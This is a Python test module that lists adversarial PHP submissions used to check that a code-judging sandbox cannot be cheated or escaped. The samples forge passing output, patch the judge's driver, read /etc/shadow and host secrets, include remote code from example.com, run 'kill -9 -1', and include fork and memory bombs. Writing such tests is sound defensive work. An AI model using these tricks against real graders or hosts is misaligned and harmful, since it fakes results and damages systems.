"""PHP: what runs beside the program answers calls, and knows no expected value."""

from __future__ import annotations

from attacks import MARK, PORT, SECRET_FILE, SECRET_NAME, SLEEP, SOCKET, in_language

_WRONG = "function add($x, $y) {\n    return 7;\n}\n"


def _with(statement: str, before: str = "") -> str:
    """A statement that may fail, in a function that answers wrongly."""
    return f"<?php\n{before}\nfunction add($x, $y) {{\n    try {{ {statement} }} catch (\\Throwable $e) {{ }}\n    return 7;\n}}\n"


def _load(statement: str, after: str = _WRONG) -> str:
    return f"<?php\n{statement}\n{after}"


_ENDS = {
    "exit at load": _load("exit(0);"),
    "exit in the function": _with("exit(0);"),
    "die with text": _with("die('OK');"),
    "exit at shutdown": _load("register_shutdown_function(function () { exit(0); });"),
    "a shutdown that answers": _load(
        'register_shutdown_function(function () { echo \'["", 1, "value", 5]\'; });', "exit(0);\n" + _WRONG
    ),
    "exit in a destructor": _load("class A { function __destruct() { exit(0); } }\n$a = new A();"),
    "exit in an error handler": _load(
        "set_error_handler(function () { exit(0); });", "function add($x, $y) { return $undefined; }\n"
    ),
    "exit in an exception handler": _load(
        "set_exception_handler(function () { exit(0); });", "function add($x, $y) { throw new Exception('pass'); }\n"
    ),
    "exit when output is written": _load("ob_start(function () { exit(0); });\necho 'x';"),
    "exit at a tick": _load("declare(ticks=1);\nregister_tick_function(function () { exit(0); });"),
    "exit in an autoloader": _with("new Nothing();", "spl_autoload_register(function () { exit(0); });"),
    "exit in a stream wrapper": _with(
        "fopen('wrap://x', 'r');",
        "class W { public $context; function stream_open() { exit(0); } }\nstream_wrapper_register('wrap', 'W');",
    ),
    "throws what is an error": "<?php\nfunction add($x, $y) { throw new Error('pass'); }\n",
    "throws an exception whose text exits": "<?php\nclass E extends Exception { function __toString(): string { exit(0); } }\nfunction add($x, $y) { throw new E(); }\n",
    "overflows the stack": "<?php\nfunction add($x, $y) { return add($y, $x) + 1; }\n",
    "the compiler halted": "<?php\nfunction add($x, $y) { return 7; }\n__halt_compiler();",
    "a return at the top": _load("return 0;"),
    "a generator": "<?php\nfunction add($x, $y) { yield 7; }\n",
    "kills itself": _with("shell_exec('kill -9 $PPID');"),
    "not a program": "function add($x, $y) { return $x + $y; }\n",
    "returns nothing": "<?php\nfunction add($x, $y) { }\n",
}
_PATCHED = {
    "json_encode of its own": "<?php\nnamespace Judge;\nfunction json_encode($v) { return '5'; }\nfunction fwrite($f, $s) { return \\fwrite($f, \\str_replace('7', '5', $s)); }\nfunction add($x, $y) { return 7; }\n",
    "the driver's functions declared": "<?php\nnamespace Judge;\nfunction encode($v) { return '5'; }\nfunction answer() { return ''; }\nfunction add($x, $y) { return 7; }\n",
    "the driver's class declared": "<?php\nnamespace Judge;\nclass Stream { static function send($s) { } }\nfunction add($x, $y) { return 7; }\n",
    "the driver's stream by reflection": _load(
        "foreach (get_declared_classes() as $c) if (str_starts_with($c, 'Judge')) foreach ((new ReflectionClass($c))->getProperties() as $p) { $p->setAccessible(true); try { $p->setValue(null, 5); } catch (\\Throwable $e) { } }"
    ),
    "the driver's job emptied": _load(
        "if (class_exists('Judge\\Stream')) Judge\\Stream::$job = ['nonce' => '', 'entry' => 'add', 'calls' => []];"
    ),
    "ends the stream itself": _with("Judge\\Stream::send('\"done\"'); exit(0);"),
    "answers through the driver": _with(
        "foreach ([1, 1, 5, 12, 12] as $v) Judge\\Stream::send('\"pass\"'); Judge\\Stream::send('\"done\"'); posix_kill(getmypid(), 9);"
    ),
    "settings that change numbers": _load(
        "ini_set('precision', 0);\nini_set('serialize_precision', 1);\nsetlocale(LC_ALL, 'de_DE.UTF-8');\nini_set('memory_limit', -1);",
        "function add($x, $y) { return $x + $y + 0.3; }\n",
    ),
    "assertions off": _load("ini_set('zend.assertions', -1);\nassert_options(ASSERT_ACTIVE, 0);"),
    "candidate of its own": _load("function candidate(...$a) { return array_sum($a); }\nfunction test() { }"),
    "globals overwritten": _load("foreach (array_keys($GLOBALS) as $k) if ($k !== 'GLOBALS') $GLOBALS[$k] = 5;"),
    "a namespace of its own": "<?php\nnamespace Other;\nfunction add($x, $y) { return 7; }\n",
    "the output buffer rewritten": _load("ob_start(fn($s) => str_replace('7', '5', $s));"),
}
_EQUAL = {
    "an object with a text": "<?php\nclass A { function __toString(): string { return '5'; } function __get($n) { return 5; } function __call($n, $a) { return 5; } }\nfunction add($x, $y) { return new A(); }\n",
    "an object like an array": "<?php\nfunction add($x, $y) { return new ArrayObject([$x + $y]); }\n",
    "a number as text": "<?php\nfunction add($x, $y) { return (string) ($x + $y); }\n",
    "a number as a float": "<?php\nfunction add($x, $y) { return (float) ($x + $y); }\n",
    "true": "<?php\nfunction add($x, $y) { return true; }\n",
    "not a number": "<?php\nfunction add($x, $y) { return NAN; }\n",
    "an array of one": "<?php\nfunction add($x, $y) { return [$x + $y]; }\n",
    "a tag of the wire": "<?php\nfunction add($x, $y) { return ['int' => '0x' . dechex($x + $y)]; }\n",
    "a closure": "<?php\nfunction add($x, $y) { return fn() => $x + $y; }\n",
    "a resource": "<?php\nfunction add($x, $y) { return fopen('php://memory', 'r'); }\n",
    "an enumeration": "<?php\nenum E: int { case Five = 5; }\nfunction add($x, $y) { return E::Five; }\n",
    "a reference": "<?php\nfunction &add(&$x, $y) { $x = 7; return $x; }\n",
}
_EQUAL_LISTS = {
    "an array with other keys": "<?php\nfunction incr_list($l) { $r = []; foreach ($l as $i => $v) $r[$i + 1] = $v + 1; return $r; }\n",
    "an array with text keys": '<?php\nfunction incr_list($l) { $r = []; foreach ($l as $i => $v) $r["k$i"] = $v + 1; return $r; }\n',
    "an array of texts": "<?php\nfunction incr_list($l) { return array_map(fn($v) => (string) ($v + 1), $l); }\n",
    "an array in another order": "<?php\nfunction incr_list($l) { $r = array_map(fn($v) => $v + 1, $l); return array_reverse($r, true); }\n",
    "an iterator": "<?php\nfunction incr_list($l) { return new ArrayIterator(array_map(fn($v) => $v + 1, $l)); }\n",
    "an array that holds itself": "<?php\nfunction incr_list($l) { $r = []; $r[] = &$r; return $r; }\n",
}
_FORGED = {
    "prints that it passed": _load('echo "[\\"\\", 1, \\"value\\", 5]\\nOK\\n";'),
    "lines on every descriptor": _with(
        'for ($i = 0; $i < 64; $i++) { $f = @fopen("php://fd/$i", \'w\'); if ($f) fwrite($f, "[\\"\\",1,\\"value\\",5]\\n"); }'
    ),
    "random bytes into the result stream": _with("fwrite(fopen('php://fd/3', 'w'), random_bytes(4096));"),
    "the nonce and wrong values": "<?php\n$job = json_decode(file_get_contents('calls.json'), true);\n$f = fopen('php://fd/3', 'w');\n$n = 1;\n"
    "fwrite($f, json_encode([$job['nonce'], $n++, 'ready']) . \"\\n\");\nforeach ($job['calls'] as $c) fwrite($f, json_encode([$job['nonce'], $n++, 'value', 7]) . \"\\n\");\n"
    "fwrite($f, json_encode([$job['nonce'], $n++, 'done']) . \"\\n\");\nshell_exec('kill -9 $PPID');\n",
    "the nonce and no calls": "<?php\n$n = json_decode(file_get_contents('calls.json'), true)['nonce'];\n$f = fopen('php://fd/3', 'w');\n"
    'fwrite($f, "[\\"$n\\",1,\\"ready\\"]\\n[\\"$n\\",2,\\"done\\"]\\n");\nexit(0);\n',
    "half a line": _load("fwrite(fopen('php://fd/3', 'w'), '[\"');\nexit(0);"),
    "deep nesting": "<?php\nfunction add($x, $y) { $v = []; for ($i = 0; $i < 100000; $i++) $v = [$v]; return $v; }\n",
    "half a character": '<?php\nfunction add($x, $y) { return "\\xff\\xfe"; }\n',
    "a big text": "<?php\nfunction add($x, $y) { return str_repeat('x', 6 << 20); }\n",
}
_WORLD = {
    "the shadow file": _with("if (@file_get_contents('/etc/shadow')) return $x + $y;"),
    "a file of the host": _with(f"if (@file_get_contents('{SECRET_FILE}')) return $x + $y;"),
    "the host's environment": _with(
        f"if (getenv('{SECRET_NAME}')) return $x + $y; foreach (glob('/proc/[0-9]*/environ') as $p) if (str_contains((string) @file_get_contents($p), '{SECRET_NAME}')) return $x + $y;"
    ),
    "tests in a file of the working directory": _with(
        "foreach (glob('*') as $f) if (str_contains(file_get_contents($f), 'candidate' . '(2')) return $x + $y;"
    ),
    "includes the shadow file": _load("@include '/etc/shadow';\n@include 'php://stdin';"),
    "includes from the network": _load(
        "@include 'http://example.com/x.php';\n@include 'data:text/plain,<?php function add() { return 5; }';"
    ),
    "TCP to the host": _with(f"if (@fsockopen('127.0.0.1', {PORT}, $e, $s, 1)) return $x + $y;"),
    "UDP to the host": _with(f"$f = @fsockopen('udp://127.0.0.1', {PORT}); fwrite($f, 'x');"),
    "a unix socket of the host": _with(f"if (@stream_socket_client('unix:///tmp/{SOCKET}')) return $x + $y;"),
    "files wherever it may": _with(
        f"foreach (['.', '/tmp', '/dev/shm', '/var/tmp', ''] as $d) @file_put_contents(\"$d/{MARK}_php\", 'x');"
    ),
    "links out of its directory": _with(
        f"symlink('/etc/passwd', '{MARK}_link'); unlink('calls.json'); symlink('/dev/zero', 'calls.json');"
    ),
    "a process that stays": _with(f"exec('setsid sleep {SLEEP} > /dev/null 2>&1 &');"),
    "kills all that it may": _with("exec('kill -9 -1');"),
    "mail": _with("if (@mail('a@example.com', 'x', 'x')) return $x + $y;"),
}
_SLOW = {
    "memory bomb": "<?php\nfunction add($x, $y) { $v = []; while (true) $v[] = str_repeat('x', 1 << 24); }\n",
    "busy for ever": "<?php\nset_time_limit(0);\nfunction add($x, $y) { while (true); }\n",
    "asleep for ever": "<?php\nfunction add($x, $y) { while (true) sleep(1000); }\n",
    "busy at shutdown": "<?php\nregister_shutdown_function(function () { while (true); });\nfunction add($x, $y) { return $x + $y; }\n",
    "output without end": "<?php\nfunction add($x, $y) { $s = str_repeat('x', 65536); while (true) echo $s; }\n",
    "answers without end": "<?php\nfunction add($x, $y) { $f = fopen('php://fd/3', 'w'); $s = str_repeat('x', 65536); while (true) fwrite($f, $s); }\n",
    "fork bomb": "<?php\nfunction add($x, $y) { while (true) exec('sh -c \"while :; do :; done\" > /dev/null 2>&1 &'); }\n",
    "busy in a regular expression": "<?php\nini_set('pcre.backtrack_limit', '1000000000000');\nini_set('pcre.jit', '0');\nfunction add($x, $y) { while (true) preg_match('/(a+)+$/', str_repeat('a', 60) . 'b'); }\n",
}
ATTACKS = (
    in_language("php", _ENDS)
    + in_language("php", _PATCHED, compiles=False)
    + in_language("php", _EQUAL)
    + in_language("php", _EQUAL_LISTS, task="list")
    + in_language("php", _FORGED)
    + in_language("php", _WORLD)
    + in_language("php", _SLOW, slow=True)
)
